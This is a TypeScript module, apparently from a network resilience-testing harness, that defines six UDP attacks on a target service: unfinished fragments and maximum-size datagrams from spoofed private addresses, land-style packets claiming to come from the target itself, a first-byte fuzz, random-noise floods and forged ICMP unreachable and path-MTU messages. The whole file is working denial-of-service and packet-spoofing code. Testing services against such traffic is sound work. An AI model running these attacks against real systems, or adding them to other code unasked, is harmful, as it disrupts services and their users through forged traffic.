import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { setTimeout as delay } from 'node:timers/promises'

import { Forger } from '../network/forge.ts'
import { type Attack, repeat } from './attack.ts'

/** The n-th of many absent hosts of the own network, and of others. */
export function forgedSource(number: number): { address: string; port: number } {
  const address = `10.${90 + ((number >> 16) & 31)}.${(number >> 8) & 255}.${number & 255}`
  return { address, port: 1024 + (number % 60_000) }
}

/** First fragments, whose rest never comes: the kernel keeps them for 30 s (RFC 791). */
const unfinishedFragments: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  const payload = new Uint8Array(1_472)
  return await repeat(signal, 500, (number) =>
    forger.sendFirstFragment({ from: forgedSource(number), to: target, payload }),
  )
}

/** The largest datagrams that there are, each from another source. */
const largestFromMany: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  const payload = new Uint8Array(65_000)
  return await repeat(signal, 30, (number) =>
    forger.send({ from: forgedSource(number), to: target, payload }),
  )
}

/** Datagrams that say they come from the service itself (land.c). */
const fromItself: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  const payload = new Uint8Array(64)
  return await repeat(signal, 500, (number) => {
    const address = number % 2 === 0 ? target.address : '127.0.0.1'
    forger.send({ from: { address, port: target.port }, to: target, payload })
  })
}

/** Datagrams of 0 to 64 bytes with each value in the first byte; what comes back is counted. */
const everyFirstByte: Attack = async (target, signal) => {
  const socket = createSocket('udp4')
  socket.bind(0)
  await once(socket, 'listening')
  let [asked, answered] = [0, 0]
  socket.on('message', (bytes) => {
    answered += bytes.length
  })
  const counts = await repeat(signal, 1_000, (number) => {
    const bytes = new Uint8Array((number >> 8) % 65).fill(number & 255)
    asked += bytes.length
    socket.send(bytes, target.port, target.address)
  })
  await delay(500)
  socket.close()
  return { ...counts, asked, answered }
}

/** Random bytes of all lengths from many sources. */
const noise: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 1_000, (number) => {
    const payload = crypto.getRandomValues(new Uint8Array((number * 7) % 1_400))
    forger.send({ from: forgedSource(number % 5_000), to: target, payload })
  })
}

/** ICMP that tells the service that its answers do not arrive, or that the path is narrow (RFC 5927). */
const forgedIcmp: Attack = async (target, signal) => {
  using forger = new Forger('IPv4')
  return await repeat(signal, 300, (number) => {
    const quoted = { from: target, to: { address: '10.77.0.2', port: 1024 + (number % 60_000) } }
    for (const [code, mtu] of [
      [1, 0],
      [3, 0],
      [4, 68],
    ] as const)
      forger.sendUnreachable({ from: '10.77.0.66', code, mtu, quoted })
  })
}

export const udpAttacks: Readonly<Record<string, Attack>> = {
  unfinishedFragments,
  largestFromMany,
  fromItself,
  everyFirstByte,
  noise,
  forgedIcmp,
}
